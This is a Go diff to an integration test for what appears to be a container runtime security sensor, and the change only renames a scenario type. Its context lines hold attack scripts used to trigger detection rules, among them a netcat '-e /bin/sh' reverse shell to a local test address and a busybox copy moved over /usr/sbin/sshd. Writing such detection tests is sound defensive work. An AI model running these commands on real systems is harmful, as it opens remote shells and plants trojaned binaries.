@@ -24,9 +24,9 @@ import (
 	"github.com/tripline/tripline/internal/testenv"
 )
 
-// scenario is one shell script run as the entrypoint of its own busybox
+// ruleScenario is one shell script run as the entrypoint of its own busybox
 // container.
-type scenario struct {
+type ruleScenario struct {
 	name   string
 	script string
 	// want lists rules of which at least one must fire at Warning or above
@@ -69,7 +69,7 @@ func TestAttackScenariosInContainers(t *testing.T) {
 	testenv.Require(t, have["bash"], "bash to copy into the container")
 	healthPort := freePort(t)
 
-	attacks := []scenario{
+	attacks := []ruleScenario{
 		{name: "busybox nc -e reverse shell", want: []string{"Netcat remote code execution"}, privileged: true,
 			script: netSetup + "httpd -p 10.250.0.1:4444 -h /tmp; nc 10.250.0.1 4444 -e /bin/sh"},
 		{name: "busybox nc -e reverse shell under timeout", want: []string{"Netcat remote code execution"}, privileged: true,
@@ -123,7 +123,7 @@ func TestAttackScenariosInContainers(t *testing.T) {
 		{name: "trojan moved over a system binary (rename syscall)", want: []string{"System directory changed in container"},
 			needs: "rename", atError: true, script: "mkdir -p /usr/sbin; cp /bin/busybox /tmp/sshd; mv /tmp/sshd /usr/sbin/sshd"},
 	}
-	benign := []scenario{
+	benign := []ruleScenario{
 		{name: "tar archive and extract", script: "mkdir -p /tmp/src/d /tmp/out && echo a > /tmp/src/d/f && " +
 			"tar -cf /tmp/a.tar -C /tmp src && tar -xf /tmp/a.tar -C /tmp/out && tar -czf /tmp/a.tgz -C /tmp src"},
 		{name: "shell loops", script: `i=0; while [ $i -lt 20 ]; do i=$((i+1)); echo $i > /tmp/count; done; ` +
@@ -145,7 +145,7 @@ func TestAttackScenariosInContainers(t *testing.T) {
 		"--output", "stdout", "--metrics-addr", "", "--containerd-socket", sock, "--coalesce", "0")
 	seen := newAlertLog(d.stdout)
 
-	run := func(s *scenario) {
+	run := func(s *ruleScenario) {
 		id := randomID(t)
 		s.ids = append(s.ids, id)
 		args := []string{"--address", sock, "run", "--rm"}
@@ -164,7 +164,7 @@ func TestAttackScenariosInContainers(t *testing.T) {
 		}
 	}
 	// A few containers at a time; each has its own id, so alerts cannot mix.
-	runAll := func(list []*scenario) {
+	runAll := func(list []*ruleScenario) {
 		var wg sync.WaitGroup
 		sem := make(chan struct{}, 4)
 		for _, s := range list {
@@ -179,7 +179,7 @@ func TestAttackScenariosInContainers(t *testing.T) {
 	}
 	// Benign first: the attacks' alerts, which arrive after the benign
 	// scenarios' events, are the barrier for asserting silence.
-	var quiet, live []*scenario
+	var quiet, live []*ruleScenario
 	for i := range benign {
 		quiet = append(quiet, &benign[i])
 	}
@@ -194,7 +194,7 @@ func TestAttackScenariosInContainers(t *testing.T) {
 	}
 	runAll(live)
 
-	fired := func(s *scenario) bool {
+	fired := func(s *ruleScenario) bool {
 		for _, a := range seen.of(s.ids...) {
 			if slices.Contains(s.want, a.rule) && a.prio.AtLeast(s.minPriority()) {
 				return true
@@ -204,7 +204,7 @@ func TestAttackScenariosInContainers(t *testing.T) {
 	}
 	report := func() string {
 		var b strings.Builder
-		fmt.Fprintf(&b, "%-48s %-8s %s\n", "scenario", "result", "alerts at Warning or above")
+		fmt.Fprintf(&b, "%-48s %-8s %s\n", "ruleScenario", "result", "alerts at Warning or above")
 		for _, s := range live {
 			result := "FIRED"
 			switch {
@@ -228,15 +228,15 @@ func TestAttackScenariosInContainers(t *testing.T) {
 	// The machine may be busy enough for the ring buffer to drop events
 	// (the sensor then raises "syscall event drop"); an attack that did not
 	// show up is run again, twice at most, in a new container.
-	done := func(s *scenario) bool { return fired(s) || pending(s) }
+	done := func(s *ruleScenario) bool { return fired(s) || pending(s) }
 	for attempt := 1; ; attempt++ {
-		if poll(20*time.Second, func() bool { return !slices.ContainsFunc(live, func(s *scenario) bool { return !done(s) }) }) {
+		if poll(20*time.Second, func() bool { return !slices.ContainsFunc(live, func(s *ruleScenario) bool { return !done(s) }) }) {
 			break
 		}
 		if attempt == 3 {
 			t.Fatalf("attacks did not raise their alerts after %d attempts:\n%s\nsensor log:\n%s", attempt, report(), d.log)
 		}
-		var again []*scenario
+		var again []*ruleScenario
 		for _, s := range live {
 			if !done(s) {
 				t.Logf("%s: no alert yet, running it again (drops so far: %d)", s.name, seen.drops())
@@ -260,7 +260,7 @@ func TestAttackScenariosInContainers(t *testing.T) {
 	d.stop(t)
 }
 
-func (s *scenario) minPriority() alert.Priority {
+func (s *ruleScenario) minPriority() alert.Priority {
 	if s.atError {
 		return alert.PriorityError
 	}
@@ -284,7 +284,7 @@ func poll(d time.Duration, cond func() bool) bool {
 
 // pending reports whether a scenario's rule relies on a field or an event
 // type this build does not supply.
-func pending(s *scenario) bool {
+func pending(s *ruleScenario) bool {
 	if s.needs == "" {
 		return false
 	}
